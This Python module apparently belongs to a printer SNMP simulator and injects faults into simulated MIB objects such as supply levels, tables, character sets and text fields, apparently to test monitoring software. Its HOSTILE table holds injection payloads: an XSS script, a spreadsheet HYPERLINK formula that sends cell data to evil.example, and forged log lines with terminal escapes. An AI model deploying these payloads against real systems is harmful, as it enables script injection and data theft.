"""Faults that change the objects themselves: levels, texts, character sets, cut tables, supplies moved into a context."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from . import ber
from .devices import CODECS
from .faults import Faults
from .objects import COLORANTS, PRINTER_MIB, SUPPLIES, SYSTEM, Facts, Shape, Slot, Value
from .view import Row, View

CHARSET: Final = (*PRINTER_MIB, 7, 1, 1, 4)
LEVEL: Final = (*SUPPLIES, 9)
CAPACITY: Final = (*SUPPLIES, 8)
FREE_TEXTS: Final = (
    (*SYSTEM, 4),
    (*SYSTEM, 5),
    (*SYSTEM, 6),
    (*PRINTER_MIB, 5, 1, 1, 16),
    (*SUPPLIES, 6),
    (*PRINTER_MIB, 16, 5, 1, 2),
    (*PRINTER_MIB, 18, 1, 1, 8),
)
"""Texts a person or a firmware may fill: contact, name, location, printer name, supplies, panel, alerts."""
PANEL_TEXTS: Final = FREE_TEXTS[4:]

HOSTILE: Final[dict[str, bytes]] = {
    "script": b"<script>alert(document.domain)</script><img src=x onerror=alert(1)>",
    "formula": b'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "log": b"ok\r\n2026-01-01 00:00:00 CRITICAL forged line\x1b[2J\x1b[31m",
    "nul": b"before\x00after\x00",
    "bytes": b"\xff\xfe\x80\xc3\x28\xed\xa0\x80",
    "long": b"A" * 10_240,
}
SAMPLES: Final = {
    5: "Gotowy: tryb uśpienia", 8: "Готов: замените тонер", 17: "印刷できます", 106: "Prêt – тонер – 印刷", 113: "请等待",
    2004: "Gerät läuft, Türe öffnen", 2251: "Готов: замените тонер", 2252: "Prêt – déjà imprimé €", 4: "Prêt, déjà imprimé",
}  # fmt: skip
"""A text per character set that is wrong when read as any of the usual others."""


def reshape(shapes: dict[bytes, Shape], faults: Faults | None) -> dict[bytes, Shape]:
    """Return the contexts and objects a printer shows with its faults; the given shapes when none of them touches objects."""
    if faults is None or not faults.wanted.keys() & {"truncated_tables", "levels", "texts", "charset", "context"}:
        return shapes
    changed = {name: _changed(shape, faults) for name, shape in shapes.items()}
    context = faults.get("context")
    if context:
        whole = changed[b""]
        changed[b""] = _only(whole, lambda row: not _is_supply(row))
        changed[context.encode()] = _only(whole, _is_supply)
    return changed


def _is_supply(row: Row) -> bool:
    return row.object[: len(SUPPLIES)] in (SUPPLIES, COLORANTS)


def _only(shape: Shape, keep: Callable[[Row], bool]) -> Shape:
    """Return a shape with some of the rows; slots keep their numbers, unused ones are never asked for."""
    return Shape(View(row for row in shape.view.rows if keep(row)), shape.slots, shape.codec)


def _changed(shape: Shape, faults: Faults) -> Shape:
    """Return a shape of its own for one printer, with every fault of the objects worked in."""
    rows: list[Row] = []
    slots = list(shape.slots)
    full = faults.get("truncated_tables")
    seen: dict[ber.Oid, int] = {}
    for row in shape.view.rows:
        seen[row.object] = seen.get(row.object, 0) + 1
        if full is not None and row.object[:-1] == SUPPLIES and row.object[-1] >= 7 and seen[row.object] > full:
            continue
        rows.append(_row(row, slots, faults))
    return Shape(View(rows), tuple(slots), shape.codec)


def _row(row: Row, slots: list[Slot], faults: Faults) -> Row:
    """Return the row as the faults have it; a changed slot is changed in `slots`, keeping when it exists."""
    levels, texts, charset = faults.get("levels"), faults.get("texts"), faults.get("charset")
    if levels is not None and row.object == LEVEL and isinstance(row.cell, int):
        _replace(slots, row.cell, lambda value: max(300, 3 * int(str(value))) if levels == "above" else int(levels))
    if texts is not None and row.object in FREE_TEXTS:
        kinds = list(HOSTILE)[:-1] if texts == "hostile" else [texts]
        text = HOSTILE[kinds[FREE_TEXTS.index(row.object) % len(kinds)]]
        return _constant(row, slots, text)
    if charset is not None and row.object == CHARSET:
        return row._replace(cell=ber.integer(charset))
    if charset is not None and row.object in PANEL_TEXTS:
        text = SAMPLES.get(charset, SAMPLES[106]).encode(CODECS.get(charset, "utf-8"), "replace")
        return _constant(row, slots, text)
    return row


def _constant(row: Row, slots: list[Slot], text: bytes) -> Row:
    if isinstance(row.cell, int):
        _replace(slots, row.cell, lambda _: text)
        return row
    return row._replace(cell=ber.tlv(ber.OCTET_STRING, text))


def _replace(slots: list[Slot], number: int, change: Callable[[Value], Value]) -> None:
    source = slots[number].source

    def changed(facts: Facts) -> Value | None:
        value = source(facts)
        return None if value is None else change(value)

    slots[number] = slots[number]._replace(source=changed)
